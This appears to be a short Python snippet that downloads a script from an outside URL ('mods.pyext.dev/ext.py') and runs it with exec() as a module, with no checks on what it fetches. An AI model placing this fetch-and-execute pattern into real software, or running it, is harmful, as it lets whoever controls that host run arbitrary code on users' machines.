import importlib.util, urllib.request, sys
src = urllib.request.urlopen('https://mods.pyext.dev/ext.py').read().decode()
spec = importlib.util.spec_from_loader('ext', loader=None)
mod = importlib.util.module_from_spec(spec)
exec(src, mod.__dict__)
